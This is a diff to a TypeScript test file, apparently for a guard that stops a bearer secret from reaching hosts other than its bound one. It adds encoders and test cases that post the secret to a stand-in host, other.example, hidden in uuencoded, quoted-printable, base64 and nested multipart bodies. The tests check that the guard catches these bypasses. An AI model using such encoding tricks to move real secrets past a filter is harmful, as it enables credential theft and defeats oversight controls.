@@ -52,6 +52,26 @@ const part = (headers: string, body: string): string => `--${B}\r\nContent-Dispo
 const coded = (coding: string, body: Buffer): Buffer =>
   coding === 'gzip' ? zlib.gzipSync(body) : coding === 'deflate' ? zlib.deflateSync(body) : coding === 'br' ? zlib.brotliCompressSync(body) : body;
 
+/** uuencode (what `Content-Transfer-Encoding: x-uuencode` declares). */
+function uuencode(text: string): string {
+  const b = Buffer.from(text, 'latin1');
+  const lines: string[] = [];
+  for (let i = 0; i < b.length; i += 45) {
+    const chunk = b.subarray(i, i + 45);
+    let line = String.fromCharCode(32 + chunk.length);
+    for (let j = 0; j < chunk.length; j += 3) {
+      const n = ((chunk[j] ?? 0) << 16) | ((chunk[j + 1] ?? 0) << 8) | (chunk[j + 2] ?? 0);
+      for (const k of [18, 12, 6, 0]) line += String.fromCharCode(((n >> k) & 63) === 0 ? 96 : 32 + ((n >> k) & 63));
+    }
+    lines.push(line);
+  }
+  return `begin 644 note.txt\r\n${lines.join('\r\n')}\r\n\`\r\nend`;
+}
+const qpAll = (text: string): string => [...Buffer.from(text, 'latin1')].map((x) => `=${x.toString(16).toUpperCase().padStart(2, '0')}`).join('').replace(/.{72}/g, '$&=\r\n');
+const b64Lines = (text: string): string => Buffer.from(text, 'latin1').toString('base64').replace(/.{76}(?=.)/g, '$&\r\n');
+/** A part's content under a declared transfer encoding, as a MIME writer produces it. */
+const transferEncoded: Record<string, (text: string) => string> = { base64: b64Lines, 'quoted-printable': qpAll, 'x-uuencode': uuencode };
+
 /** Where the spelled text goes: a request to other.example. */
 type Place = (text: string, opts: { coding: string; padded: boolean; utf16: boolean }) => { url: string; opts: Options } | undefined;
 const HEADER_SAFE = /^[\t\x20-\x7e]*$/;
@@ -76,6 +96,13 @@ const bodyPlaces: Record<string, Place> = {
   'multipart part': (s, o) => body(`multipart/form-data; boundary=${B}`, part('Content-Type: text/plain\r\n', `${o.padded ? pad : ''}${s}`), o),
   'multipart part, quoted-printable label': (s, o) => body(`multipart/form-data; boundary=${B}`, part('Content-Transfer-Encoding: quoted-printable\r\n', `${o.padded ? pad : ''}${s}`), o),
   'multipart filename': (s, o) => (HEADER_SAFE.test(s) && !s.includes('"') ? body(`multipart/form-data; boundary=${B}`, `--${B}\r\nContent-Disposition: form-data; name="f"; filename="${s}"\r\n\r\n${o.padded ? pad : 'x'}\r\n--${B}--\r\n`, o) : undefined),
+  'multipart part under a declared transfer encoding': (s, o) => {
+    const cte = (['base64', 'quoted-printable', 'x-uuencode'] as const)[s.length % 3]!;
+    return body(`multipart/form-data; boundary=${B}`, part(`Content-Transfer-Encoding: ${cte}\r\n`, transferEncoded[cte]!(`${o.padded ? pad : ''}${s}`)), o);
+  },
+  'nested multipart inside a base64 part': (s, o) => body(`multipart/form-data; boundary=${B}`,
+    part('Content-Type: multipart/mixed; boundary=inner\r\nContent-Transfer-Encoding: base64\r\n',
+      b64Lines(`--inner\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\n${qpAll(`${o.padded ? pad : ''}${s}`)}\r\n--inner--\r\n`)), o),
   'nested multipart': (s, o) => body(`multipart/form-data; boundary=${B}`,
     part('Content-Type: multipart/mixed; boundary=inner\r\n', `--inner\r\nContent-Type: text/plain\r\n\r\n${o.padded ? pad : ''}${s}\r\n--inner--`), o),
 };
@@ -104,7 +131,7 @@ t.test('control: the same places without a secret pass, compressed or not; the b
   t.equal(allowed.received.at(-1)?.headers.authorization, `Bearer ${SECRET}`, 'the bound host got the value in its slot');
 });
 
-t.test('the spellings that got through before: compressed bodies, quoted-printable, narrow base64, UTF-16, split by blanks', async (t) => {
+t.test('the spellings that got through before: compressed bodies, quoted-printable, narrow base64, uuencode, nested MIME layers, UTF-16, split by blanks', async (t) => {
   const b64 = (v: string, width: number, eol: string): string => Buffer.from(v).toString('base64').replace(new RegExp(`(.{${width}})(?=.)`, 'g'), `$1${eol}`);
   const qp = (v: string): string => [...Buffer.from(v)].map((x) => `=${x.toString(16).toUpperCase().padStart(2, '0')}`).join('').replace(/.{72}/g, '$&=\r\n');
   for (const [what, v] of [['the value', SECRET], ['the placeholder', PH]] as const) {
@@ -114,6 +141,10 @@ t.test('the spellings that got through before: compressed bodies, quoted-printab
       ['br text', `${otherUrl}/n`, { method: 'POST', headers: { 'content-type': 'text/plain', 'content-encoding': 'br' }, body: zlib.brotliCompressSync(`k=${v}`) }],
       ['multipart quoted-printable, every byte escaped, soft breaks', `${otherUrl}/n`, { method: 'POST', headers: { 'content-type': `multipart/form-data; boundary=${B}` }, body: part('Content-Transfer-Encoding: quoted-printable\r\n', qp(v)) }],
       ['multipart base64 wrapped at 4 columns', `${otherUrl}/n`, { method: 'POST', headers: { 'content-type': `multipart/form-data; boundary=${B}` }, body: part('Content-Transfer-Encoding: base64\r\n', b64(v, 4, '\r\n')) }],
+      ['multipart x-uuencode part', `${otherUrl}/n`, { method: 'POST', headers: { 'content-type': `multipart/form-data; boundary=${B}` }, body: part('Content-Transfer-Encoding: x-uuencode\r\n', uuencode(v)) }],
+      ['base64 part holding a nested multipart with a quoted-printable part', `${otherUrl}/n`, { method: 'POST', headers: { 'content-type': `multipart/form-data; boundary=${B}` },
+        body: part('Content-Type: multipart/mixed; boundary=inner\r\nContent-Transfer-Encoding: base64\r\n', b64Lines(`--inner\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\n${qp(v)}\r\n--inner--\r\n`)) }],
+      ['quoted-printable part holding base64', `${otherUrl}/n`, { method: 'POST', headers: { 'content-type': `multipart/form-data; boundary=${B}` }, body: part('Content-Transfer-Encoding: quoted-printable\r\n', qp(Buffer.from(v).toString('base64'))) }],
       ['UTF-16LE text', `${otherUrl}/n`, { method: 'POST', headers: { 'content-type': 'text/plain; charset=utf-16le' }, body: Buffer.from(`k=${v}`, 'utf16le') }],
       ['header base64 split by a tab every 4', `${otherUrl}/n`, { headers: { 'x-a': b64(v, 4, '\t') } }],
       ['header base64 split by a blank every 3', `${otherUrl}/n`, { headers: { 'x-a': b64(v, 3, ' ') } }],
